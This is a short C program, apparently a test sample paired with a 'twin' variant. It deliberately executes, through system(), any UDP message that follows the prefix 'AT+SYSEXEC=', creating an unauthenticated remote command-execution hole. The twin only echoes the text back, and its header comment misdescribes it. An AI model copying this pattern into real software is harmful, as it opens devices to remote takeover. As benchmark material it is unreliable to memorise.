/* What comes behind a constant word is run as a command. Twin: a command that is constant. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
  char request[256], command[300];
  int peer = socket(AF_INET, SOCK_DGRAM, 0);
  while (recv(peer, request, sizeof request, 0) > 0) {
    if (strncmp(request, "AT+SYSEXEC=", 11) == 0) {
#ifndef TWIN
      snprintf(command, sizeof command, "%s 2>&1", request + 11);
      system(command);
#else
      snprintf(command, sizeof command, "%s\n", request + 11);
      send(peer, command, strlen(command), 0);
#endif
    }
  }
  return 0;
}
